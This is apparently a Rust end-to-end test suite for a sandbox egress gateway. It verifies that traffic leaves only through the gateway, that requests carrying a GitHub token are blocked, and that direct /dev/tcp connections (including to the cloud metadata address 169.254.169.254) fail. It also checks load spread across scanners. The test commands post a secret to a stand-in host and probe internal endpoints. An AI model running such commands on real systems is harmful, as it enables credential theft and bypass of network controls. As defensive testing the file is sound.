//! The production overlay comes up as it was rendered, and does what it is for.

use anyhow::{Result, ensure};
use portcullis_cluster::stack::{GATEWAY_STATS, METRICS, figure};
use portcullis_cluster::{ORIGIN, PodName, Stack, inside};
use portcullis_e2e::{Request, github_pat};

/// What a shell in the sandbox writes; it knows nothing but what the rendered pod tells it.
async fn sh(stack: &Stack, script: &str) -> Result<String> {
    let output = stack.cluster.exec(&stack.sandbox.pod, &["sh", "-c", script]).await?;
    let text = format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    Ok(text.trim().to_owned())
}

#[test]
fn a_sandbox_reaches_the_world_through_the_gateway_only_and_secrets_never() {
    inside(async || {
        let stack = Stack::start("production", 2).await?;
        let world = &stack.cluster.world;
        let code = "curl -sS -o /dev/null -w '%{http_code}'";
        // Tools that were told nothing but the environment.
        ensure!(sh(&stack, &format!("{code} https://sink.example.net/curl")).await? == "200", stack.cluster.report());
        ensure!(sh(&stack, &format!("{code} http://sink.example.net/plain")).await? == "200");
        let python = "import urllib.request; print(urllib.request.urlopen('https://sink.example.net/python').status)";
        ensure!(sh(&stack, &format!("python3 -c \"{python}\"")).await? == "200");
        // What names SSH goes over HTTPS.
        sh(&stack, "git ls-remote git@github.com:a/b.git").await?;
        for path in ["/curl", "/plain", "/python", "/a/b.git/info/refs?service=git-upload-pack"] {
            ensure!(world.origin.requests().iter().any(|request| request.path == path), "{path} did not arrive");
        }
        // A secret, wherever it is.
        let secret = github_pat();
        for command in [format!("-d token={secret} https://sink.example.net/"), format!("https://sink.example.net/{secret}")] {
            ensure!(sh(&stack, &format!("{code} {command}")).await? == "403");
        }
        // No other way: not by address, not by name, not by any port.
        for script in [
            format!("curl -sS --noproxy '*' --max-time 2 http://{ORIGIN}/direct"),
            "curl -sS --noproxy '*' --max-time 2 http://sink.example.net/direct".to_owned(),
            format!("timeout 2 bash -c 'echo direct > /dev/tcp/{ORIGIN}/22'"),
            "timeout 2 bash -c 'echo direct > /dev/tcp/169.254.169.254/80'".to_owned(),
            "timeout 2 bash -c 'echo direct > /dev/tcp/10.96.0.1/443'".to_owned(),
            "timeout 2 getent hosts sink.example.net".to_owned(),
        ] {
            ensure!(sh(&stack, &format!("({script}) 2>/dev/null && echo reached; true")).await?.is_empty(), "{script}");
        }
        ensure!(world.contacts().is_empty(), "{:?}", world.contacts());
        ensure!(!world.origin.requests().iter().any(|request| request.path == "/direct"));
        ensure!(!world.origin.saw(secret.as_bytes()), "the secret arrived");
        stack.check(&[secret])
    });
}

#[test]
fn load_spreads_over_all_scanners_and_all_gateways() {
    inside(async || {
        // As many as production has.
        let stack = Stack::start("production", 3).await?;
        const REQUESTS: usize = 300;
        for number in 0..REQUESTS {
            let answer = stack.sandbox.send(Request::get(&format!("https://sink.example.net/{number}"))).await?;
            ensure!(answer.status == 200, "{} {}\n{}", answer.status, answer.text(), stack.cluster.report());
        }
        let count = async |component: &str, from: (u16, &str), metric: &str, labels: &str| -> Result<Vec<(PodName, f64)>> {
            let mut counts = Vec::new();
            for pod in stack.pods(component) {
                counts.push((pod.clone(), stack.cluster.metric(&pod, from, metric, labels).await?));
            }
            Ok(counts)
        };
        let scanned = count("scanner", METRICS, "portcullis_requests_total", "").await?;
        let passed = count("gateway", GATEWAY_STATS, "envoy_http_downstream_rq_completed", "tunnel_tls").await?;
        figure(&format!("requests judged by scanner {scanned:?}, passed by gateway {passed:?}"));
        for counts in [&scanned, &passed] {
            let fair = f64::from(u32::try_from(REQUESTS / 3)?);
            ensure!(counts.len() == 3 && counts.iter().all(|(_, count)| *count > fair / 2.0), "{counts:?}");
            ensure!(counts.iter().map(|(_, count)| count).sum::<f64>() >= fair * 3.0, "{counts:?}");
        }
        stack.check(&[])
    });
}
